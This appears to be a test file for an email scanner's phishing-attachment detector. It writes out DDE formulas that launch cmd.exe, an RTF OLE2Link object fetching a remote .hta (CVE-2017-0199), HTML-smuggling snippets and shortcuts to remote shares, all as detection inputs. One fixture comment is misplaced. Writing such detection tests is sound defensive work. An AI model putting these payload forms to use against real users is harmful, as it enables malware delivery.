import { expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { defaults } from "../config/load";
import { scan, type Engine } from "../engine/scan";
import { attachedPages } from "../message/beside";
import { parseMessageSync } from "../message/parse";
import { builtinDb } from "../ruledb/builtin";
import { loadRuleDb } from "../ruledb/match";
import { createPhishingCheck, phishingSymbols } from "./phishing";
import { EXECUTABLE_EXTENSIONS } from "./phishing-data";

const ROOT = join(import.meta.dir, "../..");
const bytes = (f: string) => new Uint8Array(readFileSync(join(ROOT, f)));
const engine: Engine = { config: { ...defaults(), bayes: { ...defaults().bayes, enabled: false } }, db: loadRuleDb(builtinDb()), checks: [createPhishingCheck()] };
const scanOf = (raw: Uint8Array) => scan(engine, { id: "t", envelope: { rcpt: ["user@example.com"] }, raw });
const archiveSigns = (raw: Uint8Array) => [...phishingSymbols(parseMessageSync(raw, defaults().scan), ["user@example.com"])].filter((s) => s.startsWith("ATTACH_")).sort();

/** A plain message with one attachment of these bytes, named and typed as given. */
function withAttachment(data: Uint8Array, name: string, type: string, text = "Hello,\n\nthe file you asked for.\n"): Uint8Array {
  const b64 = Buffer.from(data).toString("base64").replace(/.{76}/g, "$&\n");
  return new TextEncoder().encode(
    `From: "Ann Smith" <ann@sender.example>\nTo: user@example.com\nSubject: the file\nDate: Thu, 03 Dec 2026 10:00:00 +0000\nMessage-ID: <file-1@sender.example>\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\n${text}\n--b\nContent-Type: ${type}; name="${name}"\nContent-Disposition: attachment; filename="${name}"\nContent-Transfer-Encoding: base64\n\n${b64}\n--b--\n`,
  );
}

test("the program extensions looked for inside archives are exactly those of the rule ATTACH_EXECUTABLE", () => {
  const cf = readFileSync(join(ROOT, "rules/50_attachments.cf"), "utf8");
  const rule = /^full\s+ATTACH_EXECUTABLE\s.*\\\.\(\?:([^)]+)\)/m.exec(cf);
  expect(rule).not.toBeNull();
  expect([...EXECUTABLE_EXTENSIONS].sort()).toEqual(rule![1].split("|").sort());
});

test.each([
  // A script named as a PDF, zipped: no attachment name the rules see says "program".
  ["zip-script.eml", ["ATTACH_ARCHIVE", "ATTACH_ARCHIVE_DOUBLE_EXT", "ATTACH_ARCHIVE_EXECUTABLE"], []],
  // A tar (which Windows 11 opens) holding a program named as a PDF, as loader campaigns send "shipping documents".
  ["tar-program.eml", ["ATTACH_ARCHIVE", "ATTACH_ARCHIVE_DOUBLE_EXT", "ATTACH_ARCHIVE_EXECUTABLE"], []],
  // A remittance PDF carrying a program named as a PDF among its embedded files (and its link to a free host).
  ["pdf-embedded-program.eml", ["ATTACH_ARCHIVE_DOUBLE_EXT", "ATTACH_ARCHIVE_EXECUTABLE", "ATTACH_PDF_BAD_LINK", "ATTACH_PDF_LINK"], []],
  // A payment schedule as CSV (typed as Excel's, as Windows types .csv) whose last cell is a DDE formula starting PowerShell.
  ["csv-dde.eml", ["ATTACH_OFFICE_DDE"], []],
  // A statement of account as an old .xls whose cell is a DDE link to cmd (LibreOffice's Excel 97 file).
  ["xls-dde.eml", ["ATTACH_OFFICE_DDE"], []],
  // A password-locked archive (AES) holding a program, its password in the text.
  ["locked-archive-program.eml", ["ATTACH_ARCHIVE", "ATTACH_ARCHIVE_EXECUTABLE", "ATTACH_ENCRYPTED"], ["ATTACH_ARCHIVE_PASSWORD", "ATTACH_ENCRYPTED_PASSWORD"]],
  // The same in a 7z, as 7-Zip writes one of two files: its header LZMA-packed, the data AES-locked.
  ["locked-7z-program.eml", ["ATTACH_ARCHIVE", "ATTACH_ARCHIVE_DOUBLE_EXT", "ATTACH_ARCHIVE_EXECUTABLE", "ATTACH_ENCRYPTED"], ["ATTACH_ARCHIVE_PASSWORD", "ATTACH_ENCRYPTED_PASSWORD"]],
  // A macro document with remittance wording that asks for "Enable content".
  ["macro-document.eml", ["ATTACH_OFFICE_MACRO"], ["PHISH_MACRO_INVOICE", "ATTACH_MACRO_ENABLE_ASK"]],
  // A CV whose OLE object is fetched from an address ending in "!" (CVE-2022-30190); its target is a link of the message.
  // A disk image (ISO 9660 named .img) holding a shortcut named as a PDF, a script and a library: the 2022-2023 delivery.
  ["disk-image-shortcut.eml", ["ATTACH_ARCHIVE_DOUBLE_EXT", "ATTACH_ARCHIVE_EXECUTABLE", "ATTACH_DISK_IMAGE"], []],
  // A voicemail lure: a sign-in page with script, zipped past the checks of attached pages.
  // Where its form posts (free hosting) is one of the message's links.
  ["zipped-login-page.eml", ["ATTACH_ARCHIVE", "ATTACH_ARCHIVE_HTML", "ATTACH_HTML_FORM", "ATTACH_HTML_SCRIPT"], ["PHISH_HTML_ATTACHMENT", "URI_FREE_HOSTED"]],
  // An attached page that builds a file from base64 and has the browser save it, under a neutral text.
  ["html-smuggling.eml", ["ATTACH_HTML", "ATTACH_HTML_SCRIPT", "ATTACH_HTML_SMUGGLING"], []],
  ["remote-object-document.eml", ["ATTACH_OFFICE_REMOTE", "ATTACH_OFFICE_REMOTE_CODE"], ["URI_IP_HOST"]],
  // A purchase order "PO-0412.doc" that is an RTF embedding an Equation Editor object (its hex padded, its \\objclass lying).
  ["rtf-equation.eml", ["ATTACH_EQUATION_EDITOR", "ATTACH_RTF_OBJECT"], ["PHISH_EXPLOIT_INVOICE"]],
  // An overdue-invoice reminder whose Word 97 document (written by LibreOffice) starts cmd.exe through a DDEAUTO field.
  ["doc-dde.eml", ["ATTACH_OFFICE_DDE"], ["PHISH_EXPLOIT_INVOICE"]],
  // An invoice whose .doc carries a Package object: a script named "Invoice_0412.pdf.vbs", run on a double click.
  ["doc-package.eml", ["ATTACH_ARCHIVE_DOUBLE_EXT", "ATTACH_ARCHIVE_EXECUTABLE"], []],
  // An Internet shortcut "document" that opens a shortcut on a WebDAV share (CVE-2024-21412's form), from a sender claiming DocuSign.
  ["remote-shortcut.eml", ["ATTACH_SHORTCUT_REMOTE_FILE"], []],
  // The same kind of shortcut zipped beside a note, as the DarkGate mails of 2024 sent theirs.
  ["zipped-shortcut.eml", ["ATTACH_ARCHIVE", "ATTACH_SHORTCUT_REMOTE_FILE"], []],
  // An "invoice" page whose download link is the archive itself, as a data: URI (smuggling without a Blob).
  // The archive in the data: URI is read as an attached one (message/page-files.ts): a script named as a PDF.
  ["html-data-uri-smuggling.eml", ["ATTACH_ARCHIVE", "ATTACH_ARCHIVE_DOUBLE_EXT", "ATTACH_ARCHIVE_EXECUTABLE", "ATTACH_HTML", "ATTACH_HTML_SMUGGLING"], []],
])("%s: the check sees %o, the rules add %o, and the message is no longer not_detected", async (f, signs, metas) => {
  const raw = bytes(`fixtures/messages/phishing/${f}`);
  expect(archiveSigns(raw)).toEqual(signs);
  const r = await scanOf(raw);
  expect(r.hits.map((h) => h.name)).toEqual(expect.arrayContaining([...signs, ...metas]));
  expect(r.status).not.toBe("not_detected");
});

test("HTML smuggling needs all three steps: a page that decodes base64 into a Blob but saves nothing, or offers a plain download link, is not it", () => {
  const page = (script: string) => withAttachment(new TextEncoder().encode(`<html><body><script>${script}</script></body></html>`), "report.html", "text/html");
  expect(archiveSigns(page('var b = new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))]); img.src = URL.createObjectURL(b);'))).toEqual(["ATTACH_HTML", "ATTACH_HTML_SCRIPT"]);
  expect(archiveSigns(page('a.download = "report.csv"; a.href = "report.csv";'))).toEqual(["ATTACH_HTML", "ATTACH_HTML_SCRIPT"]);
  expect(archiveSigns(page('navigator.msSaveOrOpenBlob(new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))]), "x.iso");'))).toEqual(["ATTACH_HTML", "ATTACH_HTML_SCRIPT", "ATTACH_HTML_SMUGGLING"]);
});

test("a file carried in the page as a data: URI of an archive, program or script is smuggling too; a picture's or a font's is not", () => {
  const page = (html: string) => archiveSigns(withAttachment(new TextEncoder().encode(`<html><body>${html}</body></html>`), "Invoice.html", "text/html"));
  // Its bytes begin as a ZIP's: read as an attached archive too (message/page-files.ts).
  expect(page('<a href="data:application/zip;base64,UEsDBBQAAAAIAA==" download="Invoice_0412.zip">Download invoice</a>')).toEqual(["ATTACH_ARCHIVE", "ATTACH_HTML", "ATTACH_HTML_SMUGGLING"]);
  expect(page('<a download="x.iso" href="data:application/x-iso9660-image;base64,AAAA">x</a>')).toEqual(["ATTACH_HTML", "ATTACH_HTML_SMUGGLING"]);
  expect(page('<img src="data:image/png;base64,iVBORw0KGgo=">')).toEqual(["ATTACH_HTML"]);
  expect(page("<style>@font-face{src:url(data:application/octet-stream;base64,d09GMgABAAA=) format('woff2')}</style><p>Report</p>")).toEqual(["ATTACH_HTML"]);
  expect(page('<a href="data:application/pdf;base64,JVBERi0=" download="report.pdf">PDF</a>')).toEqual(["ATTACH_HTML"]);
});

test("an ISO image is a disk image by its bytes, under any name that says image; not an archive", () => {
  expect(archiveSigns(withAttachment(bytes("fixtures/archives/made/shortcut-plain.iso"), "photos.img", "application/octet-stream"))).toEqual(["ATTACH_ARCHIVE_EXECUTABLE", "ATTACH_DISK_IMAGE"]);
});

test("an old Excel workbook with an Excel 4.0 macro sheet is a macro document, as an .xlsm with one is", () => {
  expect(archiveSigns(withAttachment(bytes("fixtures/archives/made/xlm-macro.xls"), "Invoice_0412.xls", "application/vnd.ms-excel"))).toEqual(["ATTACH_OFFICE_MACRO"]);
  expect(archiveSigns(withAttachment(bytes("fixtures/archives/made/plain.xls"), "Invoice_0412.xls", "application/vnd.ms-excel"))).toEqual([]);
});

test("an Internet shortcut is judged by where it leads: a web page is honest and one of the message's links; a share, by its address or its icon's, is not", () => {
  const url = (body: string) => withAttachment(new TextEncoder().encode(body), "Liberalism in America.url", "application/octet-stream");
  const web = url("[DEFAULT]\r\nBASEURL=https://www.example.org/essay.html\r\n[InternetShortcut]\r\nURL=https://www.example.org/essay.html\r\n");
  expect(archiveSigns(web)).toEqual([]);
  expect(parseMessageSync(web, defaults().scan).uris).toContain("https://www.example.org/essay.html");
  expect(archiveSigns(url("[InternetShortcut]\r\nURL=https://www.example.org/\r\nIconFile=\\\\198.51.100.23\\icons\\doc.ico\r\n"))).toEqual(["ATTACH_SHORTCUT_REMOTE_FILE"]);
  expect(archiveSigns(url("[InternetShortcut]\r\nURL=search-ms:query=invoice&crumb=location:\\\\198.51.100.23@80\\docs\r\n"))).toEqual(["ATTACH_SHORTCUT_REMOTE_FILE"]);
});

test("a management console file (.msc, the 2024 GrimResource technique) is a program attached", async () => {
  const r = await scanOf(withAttachment(new TextEncoder().encode("<?xml version=\"1.0\"?><MMC_ConsoleFile/>"), "Invoice_0412.msc", "application/octet-stream"));
  expect(r.hits.map((h) => h.name)).toContain("ATTACH_EXECUTABLE");
});

test("an RTF is read whatever it is typed (application/rtf, text/rtf, application/msword); an RTF with no object has no sign", () => {
  const doc = new TextEncoder().encode("{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000" + "0b000000" + Buffer.from("Equation.3\0").toString("hex") + "00000000}}}");
  for (const type of ["application/rtf", "text/rtf", "application/msword"]) expect(archiveSigns(withAttachment(doc, "order.rtf", type))).toEqual(["ATTACH_EQUATION_EDITOR", "ATTACH_RTF_OBJECT"]);
  expect(archiveSigns(withAttachment(new TextEncoder().encode("{\\rtf1\\ansi Minutes.\\par}"), "minutes.rtf", "application/rtf"))).toEqual([]);
});

test("an RTF's Package object carrying a script is a program inside, as in an archive; an OLE2Link object fetches and runs its target (CVE-2017-0199)", () => {
  const le32 = (n: number) => Buffer.from(Uint32Array.of(n).buffer);
  const ole1 = (cls: string, native: Buffer) => Buffer.concat([le32(0x0501), le32(2), le32(cls.length + 1), Buffer.from(`${cls}\0`), le32(0), le32(0), le32(native.length), native]).toString("hex");
  const doc = (hex: string) => new TextEncoder().encode(`{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata ${hex}}}}`);
  const pkg = ole1("Package", Buffer.concat([Buffer.from([2, 0]), Buffer.from("Invoice_0412.pdf.vbs\0C:\\Temp\\Invoice_0412.pdf.vbs\0")]));
  expect(archiveSigns(withAttachment(doc(pkg), "Invoice_0412.rtf", "application/rtf"))).toEqual(["ATTACH_ARCHIVE_DOUBLE_EXT", "ATTACH_ARCHIVE_EXECUTABLE", "ATTACH_RTF_OBJECT"]);
  const url = "http://203.0.113.5/doc.hta";
  const moniker = Buffer.concat([Buffer.from("e0c9ea79f9bace118c8200aa004ba90b", "hex"), le32((url.length + 1) * 2), Buffer.from(`${url}\0`, "utf16le")]);
  const link = withAttachment(doc(ole1("OLE2Link", Buffer.concat([Buffer.alloc(64), moniker]))), "order.doc", "application/msword");
  expect(archiveSigns(link)).toEqual(["ATTACH_OFFICE_REMOTE", "ATTACH_OFFICE_REMOTE_CODE", "ATTACH_RTF_OBJECT"]);
  expect(parseMessageSync(link, defaults().scan).uris).toContain(url);
});

test("a PDF that asks for a password is locked as an archive is, and says so in the notes; one that opens without is not", async () => {
  const pdf = (f: string) => withAttachment(bytes(`fixtures/pdf-locked/${f}`), "Statement_0412.pdf", "application/pdf", "Your statement is attached.\nPassword: 4545\n");
  expect(archiveSigns(pdf("locked-r6.pdf"))).toEqual(["ATTACH_ENCRYPTED"]);
  expect(archiveSigns(pdf("open-r6.pdf"))).toEqual([]);
  const r = await scanOf(pdf("locked-r3.pdf"));
  expect(r.hits.map((h) => h.name)).toEqual(expect.arrayContaining(["ATTACH_ENCRYPTED", "ATTACH_ENCRYPTED_PASSWORD"]));
  expect(r.notes).toContain("attachments: pdf opens only with a password");
});

test("a PDF's embedded files are judged as an archive's names, and the notes say what it holds", async () => {
  const pdf = (f: string) => withAttachment(bytes(`fixtures/pdf-locked/${f}`), "Remittance.pdf", "application/pdf");
  expect(archiveSigns(pdf("embedded-r6.pdf"))).toEqual(expect.arrayContaining(["ATTACH_ARCHIVE_DOUBLE_EXT", "ATTACH_ARCHIVE_EXECUTABLE"]));
  expect(archiveSigns(pdf("embedded-utf16.pdf"))).toEqual(expect.arrayContaining(["ATTACH_ARCHIVE_HTML"]));
  expect(archiveSigns(pdf("link.pdf"))).not.toContain("ATTACH_ARCHIVE_EXECUTABLE");
  expect((await scanOf(pdf("embedded.pdf"))).notes).toContain('attachments: pdf holds "Invoice_0412.pdf.exe"');
});

test("a PDF encrypted with an empty user password hides nothing: its link is judged as the same PDF's in the clear", () => {
  const signs = (f: string) => archiveSigns(withAttachment(bytes(`fixtures/pdf-locked/${f}`), "Remittance.pdf", "application/pdf"));
  expect(signs("link.pdf")).toContain("ATTACH_PDF_LINK");
  for (const f of ["link-r3.pdf", "link-r4-objstm.pdf", "link-r6-objstm.pdf"]) expect(signs(f)).toEqual(signs("link.pdf"));
});

test("a DDE field runs a program: in a .docx (its instruction split over runs) and in an RTF; the notes say so", async () => {
  expect(archiveSigns(withAttachment(bytes("fixtures/archives/made/dde-field.docx"), "Invoice_0412.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"))).toEqual(["ATTACH_OFFICE_DDE"]);
  expect(archiveSigns(withAttachment(bytes("fixtures/archives/made/fields.docx"), "Report.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"))).toEqual([]);
  const rtf = withAttachment(new TextEncoder().encode('{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}{\\fldrslt x}}}'), "Invoice_0412.rtf", "application/rtf");
  expect(archiveSigns(rtf)).toEqual(["ATTACH_OFFICE_DDE"]);
  expect((await scanOf(rtf)).notes).toContain("attachments: rtf document runs a program through DDE when opened");
});

test("old Word documents: a DDE field, a Package carrying a script, a URL-linked object (CVE-2017-0199 as a .doc), a password to open; the notes say what each holds", async () => {
  const doc = (f: string) => withAttachment(bytes(`fixtures/archives/made/${f}`), "Invoice_0412.doc", "application/msword", "The invoice is attached.\nPassword: 4545\n");
  expect(archiveSigns(doc("dde-field.doc"))).toEqual(["ATTACH_OFFICE_DDE"]);
  expect(archiveSigns(doc("package.doc"))).toEqual(["ATTACH_ARCHIVE_DOUBLE_EXT", "ATTACH_ARCHIVE_EXECUTABLE"]);
  expect(archiveSigns(doc("link.doc"))).toEqual(["ATTACH_OFFICE_REMOTE", "ATTACH_OFFICE_REMOTE_CODE"]);
  expect(archiveSigns(doc("locked.doc"))).toEqual(["ATTACH_ENCRYPTED"]);
  expect(archiveSigns(doc("plain.doc"))).toEqual([]);
  expect(parseMessageSync(doc("link.doc"), defaults().scan).uris).toContain("http://files.example.net/invoice0412.hta");
  const notes = (await scanOf(doc("package.doc"))).notes;
  expect(notes).toContain('attachments: ole holds "Invoice_0412.pdf.vbs"');
  expect(notes).toContain('attachments: office document embeds "Package"');
  expect((await scanOf(doc("locked.doc"))).hits.map((h) => h.name)).toEqual(expect.arrayContaining(["ATTACH_ENCRYPTED", "ATTACH_ENCRYPTED_PASSWORD"]));
});

test("a CSV file's DDE formula, whatever the part's type (text/csv, Excel's, an octet stream named .csv); a CSV of data is none; the notes say so", async () => {
  const csv = new TextEncoder().encode("Name,Amount\nInvoice 0412,=cmd|' /C calc'!A0\n");
  for (const type of ["text/csv", "application/vnd.ms-excel", "application/octet-stream"]) expect(archiveSigns(withAttachment(csv, "Invoice_0412.csv", type))).toEqual(["ATTACH_OFFICE_DDE"]);
  expect(archiveSigns(withAttachment(csv, "Invoice_0412.txt", "text/plain"))).toEqual([]);
  expect(archiveSigns(withAttachment(new TextEncoder().encode("Name,Amount\nWidget|blue,-12\n"), "data.csv", "text/csv"))).toEqual([]);
  expect((await scanOf(withAttachment(csv, "Invoice_0412.csv", "text/csv"))).notes).toContain("attachments: csv file runs a program through a DDE formula when opened in Excel");
});

test("a web archive's page (.mht, parsed as an attached message, plain or base64, or under any type) is an attached page; a forwarded message's HTML, and the parts after the archive, are not", () => {
  const page = '<html><body><form action="https://x.example/a"><input type="password" name="p"></form></body></html>';
  const mht = `MIME-Version: 1.0\nContent-Type: multipart/related; type="text/html"; boundary=r\n\n--r\nContent-Type: text/html\nContent-Location: https://x.example/\n\n${page}\n--r--\n`;
  const msg = (name: string, after = "") =>
    new TextEncoder().encode(`From: a@sender.example\nTo: user@example.com\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nsee attached\n--b\nContent-Type: message/rfc822; name="${name}"\nContent-Disposition: attachment; filename="${name}"\n\n${mht}\n${after}--b--\n`);
  expect(archiveSigns(msg("Invoice_0412.mht"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
  expect(archiveSigns(msg("Invoice_0412.MHTML "))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
  expect(archiveSigns(msg("Fwd: your order.eml"))).toEqual([]);
  // The archive base64-encoded (RFC 2046 forbids it for message/rfc822; mail programs do it and readers decode it).
  const encoded = new TextEncoder().encode(`From: a@sender.example\nTo: user@example.com\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nsee attached\n--b\nContent-Type: message/rfc822; name="Invoice_0412.mht"\nContent-Disposition: attachment; filename="Invoice_0412.mht"\nContent-Transfer-Encoding: base64\n\n${Buffer.from(mht).toString("base64")}\n--b--\n`);
  expect(archiveSigns(encoded)).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
  // Sent as an octet stream or as application/x-mimearchive: Windows goes by the name.
  for (const type of ["application/octet-stream", "application/x-mimearchive"]) expect(archiveSigns(withAttachment(new TextEncoder().encode(mht), "Invoice_0412.mht", type))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
  expect(archiveSigns(withAttachment(new TextEncoder().encode(mht), "Invoice_0412.eml", "application/octet-stream"))).toEqual([]);
  // An inline HTML part after the web archive, back at the top level, is the mail's own: its script is no attached page's.
  expect(archiveSigns(msg("Invoice_0412.mht", "--b\nContent-Type: text/html\n\n<p>hi</p><script>track()</script>\n"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
  expect(archiveSigns(msg("Invoice_0412.mht", "--b\nContent-Type: multipart/alternative; boundary=c\n\n--c\nContent-Type: text/html\n\n<p>hi</p><script>track()</script>\n--c--\n"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
});

test("an attached page that frames a remote page (iframe, frame, embed, object) forwards the reader; a frame of its own content, or a picture from a server, does not", () => {
  const enc = new TextEncoder();
  const signs = (html: string) => archiveSigns(withAttachment(enc.encode(html), "Invoice.html", "text/html"));
  for (const html of ['<body style="margin:0"><iframe style="border:0;width:100%;height:100%" src="https://kit.example/o365/"></iframe></body>', "<frameset><frame src='//kit.example/p'></frameset>", '<embed width="100%" src="https://kit.example/p">', '<object type="text/html" data="https://kit.example/p"></object>'])
    expect({ html, signs: signs(html) }).toEqual({ html, signs: ["ATTACH_HTML", "ATTACH_HTML_REDIRECT"] });
  for (const html of ['<iframe src="page2.html"></iframe>', '<iframe srcdoc="<p>Invoice</p>"></iframe>', '<p>Invoice 0412</p><img src="https://cdn.example/logo.png">', '<p>see <a href="https://vendor.example/">our site</a></p>'])
    expect({ html, signs: signs(html) }).toEqual({ html, signs: ["ATTACH_HTML"] });
});

test("a page under a type that is not text (an octet stream named .htm, an SVG, XHTML) is judged as an attached page; an SVG drawn inline, a ZIP named .html and a text file are not", () => {
  const enc = new TextEncoder();
  const form = enc.encode('<html><body><form action="https://collect.example/p"><input type="password" name="p"></form></body></html>');
  const svgScript = enc.encode('<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href="https://kit.example/"</script></svg>');
  expect(archiveSigns(withAttachment(form, "Remittance.htm", "application/octet-stream"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
  expect(archiveSigns(withAttachment(svgScript, "VM_0042.svg", "image/svg+xml"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_REDIRECT", "ATTACH_HTML_SCRIPT"]);
  expect(archiveSigns(withAttachment(svgScript, "VM_0042.svg", "application/octet-stream"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_REDIRECT", "ATTACH_HTML_SCRIPT"]);
  expect(archiveSigns(withAttachment(form, "statement", "application/xhtml+xml"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
  // Where its form posts joins the message's links.
  expect(parseMessageSync(withAttachment(form, "Remittance.htm", "application/octet-stream"), defaults().scan).uris).toContain("https://collect.example/p");
  // A signature's SVG logo shown inline by Content-ID: drawn by the mail reader, never opened as a page.
  const b64 = Buffer.from(svgScript).toString("base64");
  const inline = enc.encode(`From: a@sender.example\nTo: user@example.com\nSubject: s\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<p>Hi</p><img src="cid:logo">\n--b\nContent-Type: image/svg+xml\nContent-ID: <logo>\nContent-Transfer-Encoding: base64\n\n${b64}\n--b--\n`);
  expect(archiveSigns(inline)).toEqual([]);
  // Bytes that are an archive are read as one, not as a page; a text file named so is no page.
  const zip = bytes("fixtures/archives/made/invoice-js.zip");
  const zipped = withAttachment(zip, "Invoice.html", "application/octet-stream");
  expect(attachedPages(parseMessageSync(zipped, defaults().scan))).toEqual([]);
  expect(archiveSigns(zipped)).toContain("ATTACH_ARCHIVE_EXECUTABLE");
  expect(archiveSigns(withAttachment(form, "notes.txt", "application/octet-stream"))).toEqual([]);
});

test("the bytes decide: an archive named and typed as a PDF is an archive, and its program is seen", () => {
  expect(archiveSigns(withAttachment(bytes("fixtures/archives/made/invoice-js.zip"), "scan.pdf", "application/pdf"))).toEqual(["ATTACH_ARCHIVE", "ATTACH_ARCHIVE_DOUBLE_EXT", "ATTACH_ARCHIVE_EXECUTABLE"]);
});

test("what archives hold, sign by sign: a page, a disk image, an archive inside, a gzip'd program, a RAR's names", () => {
  // The zipped page is read as an attached one: it has a password field.
  expect(archiveSigns(withAttachment(bytes("fixtures/archives/made/page.zip"), "page.zip", "application/zip"))).toEqual(["ATTACH_ARCHIVE", "ATTACH_ARCHIVE_HTML", "ATTACH_HTML_FORM"]);
  // ... and so is a page packed in a 7z (its data unpacked, LZMA2).
  expect(archiveSigns(withAttachment(bytes("fixtures/archives/made/page.7z"), "page.7z", "application/x-7z-compressed"))).toEqual(["ATTACH_ARCHIVE", "ATTACH_ARCHIVE_HTML", "ATTACH_HTML_FORM"]);
  expect(archiveSigns(withAttachment(bytes("fixtures/archives/made/nested.zip"), "docs.zip", "application/zip"))).toEqual(["ATTACH_ARCHIVE", "ATTACH_ARCHIVE_EXECUTABLE", "ATTACH_ARCHIVE_NESTED"]);
  expect(archiveSigns(withAttachment(bytes("fixtures/archives/made/scan.exe.gz"), "scan.gz", "application/gzip"))).toEqual(["ATTACH_ARCHIVE", "ATTACH_ARCHIVE_EXECUTABLE"]);
  expect(archiveSigns(withAttachment(bytes("fixtures/archives/libarchive/test_read_format_rar5_zip_in_rar.rar"), "files.rar", "application/octet-stream"))).toEqual(["ATTACH_ARCHIVE", "ATTACH_ARCHIVE_NESTED"]);
  expect(archiveSigns(withAttachment(bytes("fixtures/archives/made/locked-names.7z"), "files.7z", "application/x-7z-compressed"))).toEqual(["ATTACH_ARCHIVE", "ATTACH_ENCRYPTED"]);
});

test("ordinary attachments: an archive of a text file is only an archive; a plain document, nothing; a template on a server is one small sign", async () => {
  expect(archiveSigns(withAttachment(bytes("fixtures/archives/made/report.zip"), "report.zip", "application/zip"))).toEqual(["ATTACH_ARCHIVE"]);
  const docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
  expect(archiveSigns(withAttachment(bytes("fixtures/archives/made/plain.docx"), "minutes.docx", docx))).toEqual([]);
  const template = withAttachment(bytes("fixtures/archives/made/remote-template.docx"), "letter.docx", docx);
  expect(archiveSigns(template)).toEqual(["ATTACH_OFFICE_REMOTE"]);
  // Its links are the message's links (the URI rules and block lists see them).
  expect(parseMessageSync(template, defaults().scan).uris).toEqual(expect.arrayContaining(["https://example.com/pay", "http://203.0.113.9/templates/invoice.dotm?a=1&b=2"]));
  const plainDoc = await scanOf(withAttachment(bytes("fixtures/archives/made/plain.docx"), "minutes.docx", docx));
  expect(plainDoc.score).toBeLessThan(1);
});

test("the scan's notes say what an archive holds, what a document loads and where a shortcut leads, the names quoted", async () => {
  const zip = await scanOf(bytes("fixtures/messages/phishing/zip-script.eml"));
  expect(zip.notes).toContain('attachments: zip holds "Invoice_0412.pdf.js"');
  const doc = await scanOf(bytes("fixtures/messages/phishing/remote-object-document.eml"));
  expect(doc.notes).toContain('attachments: office document loads "http://203.0.113.9/cv/index.html!" when opened');
  const rtf = await scanOf(bytes("fixtures/messages/phishing/rtf-equation.eml"));
  expect(rtf.notes).toContain('attachments: rtf document embeds "Equation.3"');
  const shortcut = await scanOf(bytes("fixtures/messages/phishing/remote-shortcut.eml"));
  expect(shortcut.notes).toContain('attachments: shortcut opens "file://198.51.100.23@80/documents/Invoice_0412.pdf.lnk"');
  const plain = await scanOf(withAttachment(bytes("fixtures/archives/made/report.zip"), "report.zip", "application/zip"));
  expect(plain.notes.filter((n) => n.startsWith("attachments:"))).toEqual([]);
});

